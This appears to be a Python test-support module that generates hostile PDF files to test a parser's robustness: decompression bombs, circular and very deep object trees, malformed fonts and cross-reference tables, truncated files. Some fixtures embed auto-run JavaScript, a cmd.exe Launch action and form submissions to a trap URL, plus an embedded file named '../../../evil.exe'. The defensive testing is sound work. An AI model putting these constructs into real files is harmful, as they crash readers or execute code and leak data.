"""PDF files that loop, lie, explode, or request execution."""

import zlib
from collections.abc import Callable

from tests.support.hostile.registry import Trap, add, hostile, hostile_files
from tests.support.pdf_maker import Bookmark, Page, Words, column, make_pdf, stream, write

Made = tuple[str, bytes]
TEXT = Page(column(["A line of an honest page.", "And another one."]))
HONEST = make_pdf([TEXT, TEXT], outline=[Bookmark("One", 0, 700), Bookmark("Two", 1)])


def objects(*bodies: bytes, trailer: bytes = b"/Root 1 0 R") -> Made:
    return "a.pdf", write(bodies, trailer)


def one_page(content: bytes, *more: bytes, page: bytes = b"", catalog: bytes = b"") -> Made:
    """Return a file of one page, whose content is object 4 and font object 5; more are from 6."""
    return objects(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> %s >> >>" % page,
        content,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>",
        *more,
    )


def shown(text: bytes = b"Some text.") -> bytes:
    return stream(b"BT /F1 10 Tf 72 700 Td (%s) Tj ET" % text)


@hostile
def places_in_a_stream_that_explodes(trap: Trap) -> Made:
    entries = b"/Type /XRef /Size 100000000 /W [1 8 8] /Index [0 100000000] /Root 1 0 R"
    table = stream(bytes(20_000_000), entries, squeeze=True)
    return "a.pdf", (b"%PDF-1.7\n1 0 obj\n" + table + b"\nendobj\nstartxref\n9\n%%EOF")


@hostile
def pages_below_pages(trap: Trap) -> Made:
    depth = 3000
    inner = [
        b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (number + 1, number + 3)
        for number in range(depth)
    ]
    last = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (depth + 1)
    return objects(b"<< /Type /Catalog /Pages 2 0 R >>", *inner, last)


def with_outline(*entries: bytes) -> Made:
    """Return a page with an outline, whose root is object 6 and whose entries are from 7."""
    root = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>"
    return one_page(shown(), root, *entries, catalog=b"/Outlines 6 0 R")


@hostile
def outline_with_strange_titles(trap: Trap) -> Made:
    titles = (b"<d800>", b"<feffd800>", b"<feff00>", b"<fffe4100>", b"()", b"42", b"<feff>")
    return with_outline(
        *(
            b"<< /Title %s /Next %d 0 R /Dest [3 0 R /XYZ null null null] >>" % (title, n + 8)
            for n, title in enumerate(titles)
        )
    )


@hostile
def outline_that_leads_nowhere(trap: Trap) -> Made:
    places = (
        b"[99 0 R /Fit]", b"[3 0 R]", b"[]", b"null", b"[-1 /XYZ 1e99 -1e99 0]", b"(name)",
        b"[3 0 R /XYZ 0 nan 0]", b"[7 0 R /FitH 99999999999999999999]",
    )  # fmt: skip
    return with_outline(
        *(
            b"<< /Title (A) /Next %d 0 R /Dest %s >>" % (n + 8, place)
            for n, place in enumerate(places)
        )
    )


def with_font(font: bytes, *more: bytes) -> Made:
    """Return a page whose text is in a separate font, object 6."""
    content = stream(b"BT /F2 10 Tf 72 700 Td (Some text in a strange font.) Tj ET")
    name, made = one_page(content, font, *more)
    return name, made.replace(b"/F1 5 0 R", b"/F2 6 0 R")


@hostile
def letters_that_stand_for_too_many(trap: Trap) -> Made:
    mapped = b"<%s>" % (b"0041" * 2000)
    table = b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange "
    table += b"<00> <ff> %s endbfrange endcmap" % mapped
    return with_font(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /ToUnicode 7 0 R >>", stream(table)
    )


@hostile
def letters_that_stand_for_nothing(trap: Trap) -> Made:
    table = b"begincmap 4 beginbfchar <53> <d800> <6f> <dc00> <6d> <0000> <65> <ffff> endbfchar "
    return with_font(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /ToUnicode 7 0 R >>",
        stream(table + b"endcmap"),
    )


@hostile
def letters_beyond_the_first_plane(trap: Trap) -> Made:
    table = b"begincmap 2 beginbfchar <53> <d83dde00> <6f> <d835dc00> endbfchar endcmap"
    return with_font(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /ToUnicode 7 0 R >>", stream(table)
    )


@hostile
def stream_packed_very_often(trap: Trap) -> Made:
    content, names = bytes(50_000_000), b""
    for _ in range(5):
        content, names = zlib.compress(content, 9), names + b"/FlateDecode "
    return one_page(stream(content, b"/Filter [%s]" % names))


@hostile
def form_that_draws_itself(trap: Trap) -> Made:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
    form += b"/Resources << /XObject << /X 6 0 R >> >>"
    return one_page(stream(b"/X Do"), stream(b"/X Do", form), page=b"/XObject << /X 6 0 R >>")


@hostile
def forms_that_double(trap: Trap) -> Made:
    """Each form draws the next one twice: thirty of them are a billion."""
    depth = 30
    forms = [
        stream(
            b"/X Do /X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
            b"/Resources << /XObject << /X %d 0 R >> >>" % (number + 7),
        )
        for number in range(depth)
    ]
    last = stream(b"BT (a) Tj ET", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return one_page(stream(b"/X Do"), *forms, last, page=b"/XObject << /X 6 0 R >>")


@hostile
def script_that_runs_at_once(trap: Trap) -> Made:
    script = b"(app.launchURL('%s'))" % trap.url.encode()
    names = b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
    actions = b"/OpenAction 6 0 R /AA << /WC 6 0 R >> %s" % names
    return one_page(shown(), b"<< /S /JavaScript /JS %s >>" % script, catalog=actions)


@hostile
def program_that_runs_at_once(trap: Trap) -> Made:
    launch = b"<< /S /Launch /F (%s) /Win << /F (cmd.exe) >> >>" % trap.secret.encode()
    address = b"<< /S /URI /URI (%s) >>" % trap.url.encode()
    return one_page(shown(), launch, address, catalog=b"/OpenAction 6 0 R /URI 7 0 R")


@hostile
def form_that_sends_itself(trap: Trap) -> Made:
    submit = b"<< /S /SubmitForm /F (%s) /Flags 0 >>" % trap.url.encode()
    form = b"/AcroForm << /Fields [] /XFA 7 0 R >> /OpenAction 6 0 R"
    xfa = stream(
        b'<xdp><template><script>xfa.host.gotoURL("%s")</script></template></xdp>'
        % trap.url.encode()
    )
    return one_page(shown(), submit, xfa, catalog=form)


@hostile
def files_inside(trap: Trap) -> Made:
    inner = stream(HONEST, b"/Type /EmbeddedFile")
    spec = b"<< /Type /Filespec /F (../../../evil.exe) /EF << /F 6 0 R >> >>"
    return one_page(
        shown(), inner, spec, catalog=b"/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>"
    )


@hostile
def properties_of_garbage(trap: Trap) -> Made:
    entries = b"/Title <feffd800> /Author 42 /CreationDate (D:99999999999999) /ModDate [1 2]"
    return objects(
        b"<< /Type /Catalog /Pages 2 0 R /Lang <feffdfff> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        shown(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>",
        b"<< %s >>" % entries,
        trailer=b"/Root 1 0 R /Info 6 0 R",
    )


@hostile
def letters_at_places_that_are_none(trap: Trap) -> Made:
    content = (
        b"BT /F1 1e30 Tf 1e38 1e38 Td (far) Tj /F1 -1 Tf 0 0 Td (near) Tj /F1 0 Tf (none) Tj ET "
    )
    content += b"BT /F1 10 Tf 0 0 0 0 0 0 Tm (flat) Tj 1e-30 0 0 1e-30 9 9 Tm (tiny) Tj ET"
    return one_page(stream(content))


hostile_files(
    "pdf",
    locked=lambda trap: ("a.pdf", make_pdf([TEXT], password="secret")),
    locked_by_an_unknown_method=lambda trap: (
        "a.pdf",
        make_pdf([TEXT], password="secret").replace(b"/Filter /Standard", b"/Filter /Klingon!"),
    ),
    locked_with_nonsense=lambda trap: (
        "a.pdf",
        make_pdf([TEXT], password="secret")
        .replace(b"/V 1 /R 2", b"/V 5 /R 6")
        .replace(b"/O <", b"/O <ff"),
    ),
    table_of_places_is_wrong=lambda trap: ("a.pdf", HONEST.replace(b"0000000", b"0009999")),
    table_of_places_is_missing=lambda trap: ("a.pdf", HONEST[: HONEST.rindex(b"xref\n0")]),
    table_of_places_points_at_itself=lambda trap: (
        "a.pdf",
        HONEST.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % HONEST.rindex(b"xref\n0")),
    ),
    table_of_places_is_endless=lambda trap: (
        "a.pdf",
        HONEST.replace(b"xref\n0 ", b"xref\n0 999999999\n0 "),
    ),
    table_of_places_begins_below_zero=lambda trap: (
        "a.pdf",
        HONEST.replace(b"startxref\n", b"startxref\n-"),
    ),
    size_is_a_lie=lambda trap: ("a.pdf", HONEST.replace(b"/Size ", b"/Size 2147483647 /Old ")),
    pages_in_a_circle=lambda trap: objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 10 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 10 >>",
    ),
    pages_without_end=lambda trap: objects(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 2147483647 >>"
    ),
    one_page_very_often=lambda trap: objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count 4000 >>" % (b"3 0 R " * 4_000),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ),
    negative_count=lambda trap: ("a.pdf", HONEST.replace(b"/Count 2 >>", b"/Count -2 >>")),
    page_that_is_a_number=lambda trap: objects(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"42"
    ),
    catalog_that_is_missing=lambda trap: objects(b"<< >>", trailer=b"/Root 9 0 R"),
    outline_that_follows_itself=lambda trap: with_outline(
        b"<< /Title (A) /Parent 6 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>"
    ),
    outline_below_itself=lambda trap: with_outline(
        b"<< /Title (A) /Parent 6 0 R /First 7 0 R /Last 7 0 R >>"
    ),
    outline_in_a_circle=lambda trap: with_outline(
        b"<< /Title (A) /Next 8 0 R /Dest [3 0 R /Fit] >>",
        b"<< /Title (B) /Next 7 0 R /First 6 0 R /Dest [3 0 R /Fit] >>",
    ),
    outline_very_deep=lambda trap: with_outline(
        *(
            b"<< /Title (A) /First %d 0 R /Last %d 0 R /Dest [3 0 R /Fit] >>" % (n + 8, n + 8)
            for n in range(5000)
        )
    ),
    outline_very_long=lambda trap: (
        "a.pdf",
        make_pdf(
            [TEXT],
            outline=(
                [Bookmark(f"Entry {number}", 0, 700 - number % 600) for number in range(1500)]
            ),
        ),
    ),
    named_places_in_a_circle=lambda trap: one_page(
        shown(),
        b"<< /Type /Outlines /First 7 0 R /Last 7 0 R >>",
        b"<< /Title (A) /Dest (x) >>",
        b"<< /Kids [8 0 R 8 0 R] /Limits [(a) (z)] >>",
        catalog=b"/Outlines 6 0 R /Names << /Dests 8 0 R >>",
    ),
    font_that_is_missing=lambda trap: with_font(b"null"),
    font_that_is_itself=lambda trap: with_font(
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H "
        b"/DescendantFonts [6 0 R] /ToUnicode 6 0 R >>"
    ),
    font_of_garbage=lambda trap: with_font(
        b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 255 "
        b"/Widths [%s] /FontDescriptor 7 0 R >>" % (b"1e30 -5 " * 128),
        b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 8 0 R /Ascent 1e30 "
        b"/Descent -1e30 /FontBBox [1e30 -1e30 nan inf] >>",
        stream(b"\x00\x01\x00\x00\x00\x0c" + bytes(range(256)) * 8),
    ),
    font_drawn_by_its_own_letters=lambda trap: with_font(
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] "
        b"/CharProcs << /a 7 0 R >> /Encoding << /Differences [0 %s] >> /FirstChar 0 /LastChar 255 "
        b"/Widths [%s] /Resources << /Font << /F2 6 0 R >> >> >>" % (b"/a " * 256, b"1 " * 256),
        stream(b"BT /F2 1 Tf (aaaa) Tj ET"),
    ),
    stream_that_explodes=lambda trap: one_page(
        stream((b"BT /F1 10 Tf " + b"1 0 0 1 72 700 Tm (aaaa) Tj " * 300_000 + b"ET"), squeeze=True)
    ),
    stream_longer_than_the_file=lambda trap: (
        "a.pdf",
        HONEST.replace(b"/Length ", b"/Length 99999"),
    ),
    stream_whose_length_is_itself=lambda trap: one_page(
        b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"
    ),
    stream_of_all_filters=lambda trap: one_page(
        stream(
            b"zzzz" * 100,
            b"/Filter [%s]"
            % (b"/ASCIIHexDecode /ASCII85Decode /LZWDecode /RunLengthDecode /CCITTFaxDecode " * 50),
        )
    ),
    objects_in_a_stream_that_explodes=lambda trap: one_page(
        shown(),
        stream(b"6 0 " + bytes(100_000_000), b"/Type /ObjStm /N 99999 /First 4", squeeze=True),
    ),
    arrays_in_arrays=lambda trap: one_page(
        shown(), b"[" * 100_000 + b"]" * 100_000, page=b"/X 6 0 R"
    ),
    arrays_in_arrays_of_a_page=lambda trap: one_page(
        stream(b"[" * 200_000 + b" TJ " + b"]" * 200_000)
    ),
    states_in_states=lambda trap: one_page(
        stream(b"q " * 500_000 + b"BT /F1 10 Tf 72 700 Td (a) Tj ET " + b"Q " * 9)
    ),
    content_in_another_file=lambda trap: one_page(
        b"<< /Length 0 /F (%s) /FFilter /FlateDecode >>\nstream\n\nendstream" % trap.secret.encode()
    ),
    content_at_an_address=lambda trap: one_page(
        b"<< /Length 0 /F %s >>\nstream\n\nendstream"
        % (b"<< /Type /Filespec /FS /URL /F (%s) >>" % trap.url.encode())
    ),
    title_of_a_megabyte=lambda trap: (
        "a.pdf",
        make_pdf([TEXT], properties={"Title": "a" * 1_000_000}),
    ),
    page_as_large_as_the_world=lambda trap: (
        "a.pdf",
        HONEST.replace(b"[0 0 612 792]", b"[-1e30 -1e30 1e30 1e30]"),
    ),
    page_of_no_size=lambda trap: ("a.pdf", HONEST.replace(b"[0 0 612 792]", b"[0 0 0 0]")),
    letters_one_by_one_anywhere=lambda trap: (
        "a.pdf",
        make_pdf([Page([Words((n * 37) % 600, (n * 91) % 780, "x") for n in range(8000)])]),
    ),
    columns_without_end=lambda trap: (
        "a.pdf",
        make_pdf(
            [
                Page(
                    [
                        Words(20 + 29 * across, 780 - 6 * down, "abcdefghijklmnopqrs", 2.2)
                        for down in range(120)
                        for across in range(20)
                    ]
                )
            ]
        ),
    ),
    one_line_for_all=lambda trap: one_page(shown(b"a b-" * 250_000)),
    turned_by_anything=lambda trap: ("a.pdf", HONEST.replace(b"/Rotate 0", b"/Rotate 91")),
)


def _add_change(name: str, change: Callable[[bytes], bytes]) -> None:
    add(f"pdf-{name}", lambda trap: ("a.pdf", change(HONEST)))


for _percent in (1, 10, 30, 50, 70, 90, 99):
    _add_change(f"cut-at-{_percent}-percent", lambda made, p=_percent: made[: len(made) * p // 100])
_add_change("without-a-beginning", lambda made: made[9:])
_add_change("with-a-late-beginning", lambda made: b"\r\n" * 400 + made)
_add_change("with-garbage-after", lambda made: made + bytes(range(256)) * 100)
_add_change("twice", lambda made: made + made)
_add_change("without-line-ends", lambda made: made.replace(b"\n", b" "))
_add_change("of-version-99", lambda made: made.replace(b"%PDF-1.7", b"%PDF-9.9"))
_add_change("of-zeros-only", lambda made: b"%PDF-1.7\n" + bytes(len(made)))
_add_change("of-endless-objects", lambda made: b"%PDF-1.7\n" + b"1 0 obj\n" * 50_000)
_add_change("of-endless-strings", lambda made: b"%PDF-1.7\n1 0 obj (" + b"(" * 100_000)
_add_change("of-endless-names", lambda made: b"%PDF-1.7\n1 0 obj <<" + b"/A" * 100_000)
_add_change("of-endless-references", lambda made: made.replace(b"[3 0 R", b"[" + b"3 0 R " * 9000))
_add_change("without-types", lambda made: made.replace(b"/Type", b"/Typo"))
_add_change("without-fonts", lambda made: made.replace(b"/Font ", b"/Fnot "))
_add_change("with-negative-numbers", lambda made: made.replace(b" 0 R", b" -1 R"))
_add_change("with-huge-numbers", lambda made: made.replace(b" 0 R", b" 99999999999 R"))
